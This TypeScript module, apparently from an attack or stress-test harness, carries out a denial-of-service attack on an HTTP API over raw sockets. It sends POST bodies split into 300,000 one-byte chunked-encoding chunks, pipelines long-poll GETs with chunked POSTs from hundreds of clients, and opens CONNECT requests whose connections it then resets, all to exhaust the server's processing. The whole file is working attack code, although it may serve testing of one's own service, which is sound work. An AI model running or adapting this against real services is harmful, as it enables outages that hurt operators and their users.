import { connect, type Socket } from 'node:net';
import { jsonHeaders, type Battle } from '../attack.ts';
import { noteAnswer } from './connections.ts';

/** Each read of 64 KiB of such chunks takes the service 8 ms: more at a time would show that, and nothing else. */
const SENDING = 4;
const WAITING = 200;
const WAIT_BEGINS_EVERY_MS = 100;
const RESETTING = 5;
const RESET_AGAIN_MS = 100;
const CHUNKS = '1\r\n \r\n';
const LARGEST = 300_000;
/** What one read takes. */
const UNREAD = 10_000;

/** Bodies of which each byte is a chunk, and CONNECTs whose clients reset the connection. */
export async function sendPieces(battle: Battle): Promise<void> {
  const { clients, pause, prey, url, signal } = battle;
  const { hostname, port } = new URL(url);
  const headers = Object.entries(jsonHeaders(prey.key))
    .map(([name, value]) => `${name}: ${value}\r\n`)
    .join('');
  const post = (chunks: number): string =>
    `POST /v1/agents HTTP/1.1\r\nhost: x\r\n${headers}connection: close\r\ntransfer-encoding: chunked\r\n\r\n${CHUNKS.repeat(chunks)}0\r\n\r\n`;
  const largest = post(LARGEST);
  const unread = `GET /v1/events?from=now&wait=20 HTTP/1.1\r\nhost: x\r\n${headers}\r\n${post(UNREAD)}`;

  const open = (): Socket =>
    connect({ port: Number(port), host: hostname, signal }).on('error', () => undefined);
  async function send(bytes: string): Promise<void> {
    const socket = open();
    let answer = '';
    socket.setEncoding('latin1').on('data', (text: string) => (answer += text));
    socket.write(bytes);
    await new Promise((resolve) => socket.once('close', resolve));
    if (!signal.aborted) noteAnswer(battle, answer.slice(answer.lastIndexOf('HTTP/1.1 ')));
  }
  async function resetConnect(): Promise<void> {
    const socket = open();
    socket.write('CONNECT x:1 HTTP/1.1\r\nhost: x\r\n\r\n');
    await new Promise((resolve) => socket.once('data', resolve).once('close', resolve));
    socket.resetAndDestroy();
    await pause(RESET_AGAIN_MS);
  }
  await Promise.all([
    clients(SENDING, () => send(largest)),
    clients(WAITING, async (_agent, client, turn) => {
      if (turn === 0) await pause(client * WAIT_BEGINS_EVERY_MS);
      if (!signal.aborted) await send(unread);
    }),
    clients(RESETTING, resetConnect),
  ]);
}
